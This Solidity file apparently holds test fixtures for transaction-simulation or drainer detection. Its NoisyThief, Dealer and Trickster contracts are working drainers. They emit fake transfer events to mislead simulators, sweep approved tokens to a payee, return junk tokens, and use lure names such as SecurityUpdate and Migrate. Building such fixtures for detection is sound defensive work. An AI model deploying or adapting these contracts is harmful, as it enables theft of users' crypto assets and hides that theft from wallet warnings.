// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// Thieves who turn a simulation's eyes elsewhere: by noise, by junk in return, by a name in the calldata. And honest twins.

interface Token {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

/// Logs what never happened, then takes all.
contract NoisyThief {
    address private immutable payee;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event TransferSingle(address indexed operator, address indexed from, address indexed to, uint256 id, uint256 value);
    constructor(address payee_) { payee = payee_; }
    function balanceOf(address, uint256) external pure returns (uint256) { return 1; }
    function units(uint256 count, Token[] calldata tokens) external {
        for (uint256 i; i < count; i++) emit TransferSingle(address(this), msg.sender, payee, i, 1);
        take(tokens);
    }
    function others(uint256 count, Token[] calldata tokens) external {
        for (uint256 i; i < count; i++) emit Transfer(address(this), address(uint160(uint256(keccak256(abi.encode(i))))), 1);
        take(tokens);
    }
    function take(Token[] calldata tokens) private {
        for (uint256 i; i < tokens.length; i++) tokens[i].transferFrom(msg.sender, payee, tokens[i].balanceOf(msg.sender));
    }
}

/// A token of his own making, for what he gets.
contract Dealer {
    string public symbol = "JUNK";
    uint8 public constant decimals = 18;
    address payable internal immutable payee;
    mapping(address => uint256) public balanceOf;
    event Transfer(address indexed from, address indexed to, uint256 value);
    constructor(address payable payee_) { payee = payee_; balanceOf[address(this)] = 1e9; }
    function give(address from, uint256 value) internal {
        if (from != address(0)) balanceOf[from] -= value;
        balanceOf[msg.sender] += value;
        emit Transfer(from, msg.sender, value);
    }
    /// Names who is paid, in a function that nobody knows.
    function claimFor(address payable to) external payable { to.transfer(msg.value); }
    /// A price for an item, a fee for a claim, a trade whose other side is a person.
    function mint() external payable { payee.transfer(msg.value); give(address(0), 1); }
    function claim() external payable { give(address(0), 1_000); }
    function deposit(Token token, uint256 value) external { token.transferFrom(msg.sender, address(this), value); give(address(0), value); }
    function trade(Token given, uint256 value, Token taken, uint256 least) external {
        given.transferFrom(msg.sender, payee, value);
        taken.transfer(msg.sender, least);
    }
}

/// The same, and what is never honest.
contract Trickster is Dealer {
    constructor(address payable payee_) Dealer(payee_) {}
    function claimAll(address to, Token[] calldata tokens) external {
        for (uint256 i; i < tokens.length; i++) tokens[i].transferFrom(msg.sender, to, tokens[i].balanceOf(msg.sender));
    }
    /// Keeps it for paper made on the spot, or passes it on for paper made before.
    function SecurityUpdate() external payable { give(address(0), 1); }
    function Migrate() external payable { payee.transfer(msg.value); give(address(this), 1); }
    function collect(Token[] calldata tokens, Token back, uint256 value) external {
        for (uint256 i; i < tokens.length; i++) tokens[i].transferFrom(msg.sender, payee, tokens[i].balanceOf(msg.sender));
        if (address(back) == address(this)) give(address(this), value);
        else back.transfer(msg.sender, value);
    }
}
